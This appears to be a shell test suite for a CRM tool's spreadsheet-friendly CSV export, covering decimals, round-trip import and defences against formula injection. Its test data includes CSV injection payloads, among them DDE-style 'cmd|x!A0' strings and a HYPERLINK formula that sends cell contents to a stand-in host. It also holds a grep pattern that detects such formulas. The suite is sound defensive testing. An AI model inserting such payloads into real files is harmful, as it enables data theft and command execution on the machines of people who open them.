#!/bin/sh
# -f sheet: CSV that a spreadsheet opens as it is meant, where nothing a stranger wrote is a formula; and back, without loss.
. "$(dirname "$0")/../lib.sh"
CRM_DB=$work/de.db
export CRM_DB
LC_ALL=de_DE.UTF-8 TZ=Europe/Berlin crm-db init -q
bom=$(printf '\357\273\277')
crm-company add -q name='Muster; "GmbH"' city=Köln employees=12 tags=a,b
crm-offer add -q title=Server company=1 value=12000.50 expected_close=2026-05-30
crm-offer add -q title=Gutschrift company=1 value=1500
is 'mark, semicolons, CR LF, a header' "$(crm-company list -f sheet -c id,name,city,employees | od -c | sed 's/^[0-9]* *//' | tr -d ' \n')" "$(printf '%sid;name;city;employees\r\nco1;"Muster; ""GmbH""";Köln;12\r\n' "$bom" | od -c | sed 's/^[0-9]* *//' | tr -d ' \n')"
row() { tail -n +2 | tr -d '\r' | paste -sd '|' -; }
is 'decimals by the language' "$(crm-offer list -f sheet -c value,expected_close,company.name | row)" '12000,50;2026-05-30;"Muster; ""GmbH"""|1500,00;;"Muster; ""GmbH"""'
is 'of reports' "$(crm-report pipeline -f sheet -c total,weighted | row)" '13500,50;2700,10'
is 'show prints rows' "$(crm-company show 1 -f sheet | wc -l)" 2
is 'and on a terminal no mark' "$(TERM=dumb script -qec 'crm-company list -f sheet -c id' /dev/null </dev/null | tr -d '\r' | paste -sd, -)" id,co1
no 'no other word' 64 'crm-company list -f sheets'
lang() { # locale value as shown
  is "decimals: $1" "$(LC_ALL=$1 CRM_DB=$1.db crm-db init -q; crm-offer -d $1.db add -q title=x value=1234.50 && crm-offer -d $1.db list -f sheet -c value | row)" "$2"
  is "and back: $1" "$(crm-offer -d $1.db export -f sheet | crm-offer -d $1.db import --key=id - 2>&1 >/dev/null)" 'crm-offer: 0 added, 0 changed, 1 same, 0 rejected'
}
lang en_US.UTF-8 1234.50
lang de_CH.UTF-8 1234.50
lang fr_FR.UTF-8 1234,50
lang C 1234.50

# ---- formulas ----
f() { # text as in the cell
  c=$(crm-company add name="$1" --force) && is "cell: $(printf %s "$1" | od -An -c | tr -s ' ' | cut -c 1-40)" "$(crm-company list "$c" -f sheet -c name | tail -n +2 | od -c)" "$(printf '%s\r\n' "$2" | od -c)"
}
f '=1+1' "'=1+1"
f '+49 171 1' "'+49 171 1"
f '-2+3+cmd|x!A0' "'-2+3+cmd|x!A0"
f '@SUM(1)' "'@SUM(1)"
f "'=1" "''=1"
f "''@x" "'''@x"
f "'n Abend" "'n Abend"
f "'" "'"
f "' =1" "'' =1"
f "＝1+1" "'＝1+1"
f '＠x' "'＠x"
f 'a=b' 'a=b'
f '=a;b' "\"'=a;b\""
f '="x"' "\"'=\"\"x\"\"\""
f '5-3' 5-3
notes() { crm-company set -q co1 notes="$1" && is "notes: $(printf %s "$1" | od -An -c | tr -s ' ' | cut -c 1-40)" "$(crm-company list co1 -f sheet -c notes | tail -n +2 | od -c)" "$(printf '%s\r\n' "$2" | od -c)"; }
notes "${tab}=1" "\"'${tab}=1\""
notes "${tab}x" "\"'${tab}x\""
notes "$(printf '\rx')" "$(printf "\"'\rx\"")"
notes "$(printf '\n=1')" "$(printf "\"'\n=1\"")"
notes ' =1' "\"' =1\""
notes "$(printf '\302\240=1')" "$(printf "'\302\240=1")"
notes "$(printf '\302\240\342\200\213=1')" "$(printf "'\302\240\342\200\213=1")" # a blank without width
notes "$(printf '\357\273\277@x')" "$(printf "'\357\273\277@x")" # a byte order mark
notes "$(printf "'\342\200\216-x")" "$(printf "''\342\200\216-x")" # a mark of direction
notes "$(printf '\342\200\213x=')" "$(printf '\342\200\213x=')"
crm-product add -q name=Rabatt sku='-10' price=-5.50
is 'a negative number is a number, the same as text is none' "$(crm-product list -f sheet -c sku,price | row)" "'-10;-5,50"
crm-lead intake -q name='=HYPERLINK("http://x.example/?"&A1,"click")' email=x@x.example message='@SUM(1+1)*cmd|x!A0' phone='0171 2345678' source='=cmd' company_name='+x'
is 'no cell of any export begins a formula' "$(for t in company contact offer lead product task user; do crm-$t export -f sheet; crm-$t list --all -f sheet -c "$(crm-$t fields -q -c field | paste -sd, -)"; done | tr -d '\r' | LC_ALL=C grep -aE '(^|;)"?[=+@]|(^|;)"?-[^0-9]' | head -n 3)" ''
is '-f csv stays byte for byte' "$(crm-lead list -f csv -c name | grep -c '^"=HYPERLINK')" 1

# ---- and back ----
for t in company contact offer lead product task user; do
  key=id
  [ $t = user ] && key=name
  is "crm-$t: all the same" "$(crm-$t export --all -f sheet >$t.csv; crm-$t import --key=$key $t.csv 2>&1 >/dev/null)" "crm-$t: 0 added, 0 changed, $(crm-$t list --all -c id | wc -l) same, 0 rejected"
done
i() { # title file command... expected
  printf "$2" >in
  is "$1" "$(LC_ALL=${4:-de_DE.UTF-8} crm-db init -q i$tests.db; crm-offer -d i$tests.db import in ${5:-} 2>&1 >/dev/null | sed -e '/ of those added have no key, /d' -e 's/^crm-offer: //'; crm-offer -d i$tests.db list -c title,value | tr '\t\n' '|;')" "$3"
}
S='\357\273\277title;value\r\n'
i 'a comma is the decimal sign' "${S}'=x;1500,00\r\ny;-1,5\r\nz;1.234,50\r\n" "3 added, 0 changed, 0 same, 0 rejected
=x|1500.00;y|-1.50;z|1234.50;"
i 'a point too, where it can be nothing else' "${S}x;1500.5\r\n" '1 added, 0 changed, 0 same, 0 rejected
x|1500.50;'
for n in 1.500 1,500; do
  i "what can be read two ways is refused: $n" "${S}x;$n\r\n" "in:2:3: value: '$n' may be 1500 or 1.5: write 1500, or 1.50
nothing is imported; --reject=FILE takes the bad lines aside"
done
i 'unless it is said' "${S}x;1.500\r\n" '1 added, 0 changed, 0 same, 0 rejected
x|1500.00;' '' --input=sheet
i 'by the language' "${S}x;1.50\r\n" '1 added, 0 changed, 0 same, 0 rejected
x|1.50;' en_US.UTF-8 --input=sheet
i 'or the option' "${S}x;1.500\r\n" '1 added, 0 changed, 0 same, 0 rejected
x|1500.00;' '' --decimal=,
i 'a spreadsheet that left the mark out: said' "title;value\n'=x;2,5\n" '1 added, 0 changed, 0 same, 0 rejected
=x|2.50;' '' --input=sheet
i 'not said: the quote is the text'\''s' "title;value\r\n'=x;2\r\n" "1 added, 0 changed, 0 same, 0 rejected
'=x|2.00;"
i 'with commas: a mark alone is none' "\357\273\277title,value\r\n'=x,2\r\n" "1 added, 0 changed, 0 same, 0 rejected
'=x|2.00;"
i 'lines of other systems: nor semicolons' "\357\273\277title;value\n'=x;2\n" "1 added, 0 changed, 0 same, 0 rejected
'=x|2.00;"
i 'csv said' "${S}'=x;2\r\n" "1 added, 0 changed, 0 same, 0 rejected
'=x|2.00;" '' --input=csv
i 'a quote that is none of ours stays' "${S}'n Rack;2\r\n" "1 added, 0 changed, 0 same, 0 rejected
'n Rack|2.00;"
i 'an only column' '\357\273\277title\r\n"Rack, groß"\r\n'"''=x\r\n" "2 added, 0 changed, 0 same, 0 rejected
Rack, groß|;'=x|;"
no 'no other input' 64 'crm-offer import in --input=sheets'
is 'leads, too' "$(printf '\357\273\277name;email;value\r\n%s;a@b.example;12,50\r\n' "'=1" | crm-lead intake - -c name,value)" "=1${tab}12.50"
finish
